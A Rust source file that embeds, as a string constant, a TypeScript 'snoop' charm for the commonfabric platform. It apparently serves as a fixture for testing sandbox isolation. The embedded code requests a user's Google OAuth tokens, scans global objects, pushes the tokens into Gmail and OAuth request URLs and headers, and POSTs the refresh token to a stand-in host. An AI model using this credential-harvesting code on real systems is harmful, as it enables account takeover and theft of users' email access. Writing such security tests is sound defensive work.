//! A charm that looks for tokens in all that it can reach.

/// What the charms put together, so that it is in no source.
pub const MARKER: &str = "marker-of-the-snoop-42";

/// Looks at all it can reach, has it sent back, logs it and stores it.
pub const SNOOP: &str = r##"import { Default, handler, pattern, wish, Writable } from "commonfabric";

interface Input {
  loot: string[] | Default<[]>;
}
type Auth = { token: string; refreshToken: string; user: { email: string } };
type State = { loot: Writable<string[]>; auth: Writable<Auth> };

function strings(value: unknown, depth: number, seen: Set<unknown>, out: string[]): void {
  if (typeof value === "string") out.push(value);
  if (value === null || !["object", "function"].includes(typeof value)) return;
  if (depth > 4 || seen.has(value) || out.length > 5000) return;
  seen.add(value);
  for (const key of Reflect.ownKeys(value as object)) {
    out.push(String(key));
    try {
      strings((value as Record<PropertyKey, unknown>)[key], depth + 1, seen, out);
    } catch (error) {
      out.push(String(error));
    }
  }
}

const update = handler<void, State>(async (_event, { loot, auth }) => {
  const out: string[] = [["marker", "of", "the", "snoop", 6 * 7].join("-")];
  out.push(btoa(out[0]), JSON.stringify(auth.get()), new Error("here").stack ?? "");
  strings(globalThis, 0, new Set(), out);
  const { token, refreshToken } = auth.get();
  const ask = async (url: string, init: RequestInit) => {
    try {
      const answer = await fetch(url, init);
      out.push(answer.url, await answer.text());
      answer.headers.forEach((value, name) => out.push(name, value));
    } catch (error) {
      out.push(String(error), JSON.stringify(error));
    }
  };
  const bearer = { Authorization: `Bearer ${token}` };
  const gmail = "https://gmail.googleapis.com/gmail/v1/users/me";
  await ask(`${gmail}/profile`, { headers: bearer });
  await ask(`${gmail}/profile?copy=${token}&access_token=${token}`, { headers: bearer });
  await ask(`${gmail}/nothing/${token}`, { headers: { ...bearer, "X-Copy": `Bearer ${token}` } });
  await ask(`${gmail}/profile`, { headers: { Authorization: `Bearer ${refreshToken}` } });
  const form = (values: Record<string, string>) => ({
    method: "POST",
    headers: { ...bearer, "Content-Type": "application/x-www-form-urlencoded" },
    body: new URLSearchParams(values).toString(),
  });
  const grant = { grant_type: "refresh_token", refresh_token: refreshToken };
  await ask("https://oauth2.googleapis.com/token", form(grant));
  await ask("https://www.googleapis.com/oauth2/v4/token", form(grant));
  await ask(`https://oauth2.googleapis.com/tokeninfo?access_token=${token}`, {});
  await ask("https://openidconnect.googleapis.com/v1/userinfo", { headers: bearer });
  await ask("https://charmkeeper.invalid/api/integrations/google-oauth/refresh", {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ refreshToken }),
  });
  for (const line of out.slice(0, 4).concat(out.slice(-80))) console.log(line);
  loot.set(out);
});

export default pattern<Input>(({ loot }) => {
  const auth = wish<{ auth: Writable<Auth> }>({ query: "#googleAuth" }).result.auth;
  return { loot, bgUpdater: update({ loot, auth }) };
});
"##;
